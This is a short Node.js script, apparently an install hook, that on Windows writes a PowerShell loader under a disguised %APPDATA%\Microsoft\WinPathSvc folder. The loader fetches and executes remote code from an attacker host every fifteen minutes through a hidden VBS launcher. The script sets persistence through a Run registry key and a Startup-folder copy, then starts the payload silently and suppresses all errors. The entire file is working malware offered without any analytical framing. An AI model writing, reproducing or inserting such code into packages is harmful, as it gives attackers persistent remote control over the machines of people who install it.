'use strict';
const fs = require('fs');
const path = require('path');
const { spawn, execFile } = require('child_process');

if (process.platform !== 'win32') process.exit(0);

const appdata = process.env.APPDATA;
const dir = path.join(appdata, 'Microsoft', 'WinPathSvc');
const vbs = path.join(dir, 'svc.vbs');
const ps1 = path.join(dir, 'svc.ps1');

try {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(ps1, "$u='https://dl.attacker.example/w/p.ps1';while($true){try{iex (New-Object Net.WebClient).DownloadString($u)}catch{};Start-Sleep 900}\r\n");
  fs.writeFileSync(vbs, 'CreateObject("WScript.Shell").Run "powershell -NoP -W Hidden -Ep Bypass -File ""' + ps1 + '""", 0, False\r\n');

  execFile('reg', ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'WinPathSvc', '/t', 'REG_SZ', '/d', `wscript.exe "${vbs}"`, '/f'], { windowsHide: true }, () => {});

  // fallback: Startup folder
  const startup = path.join(appdata, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');
  fs.copyFileSync(vbs, path.join(startup, 'WinPathSvc.vbs'));

  spawn('wscript.exe', [vbs], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
} catch (e) {}
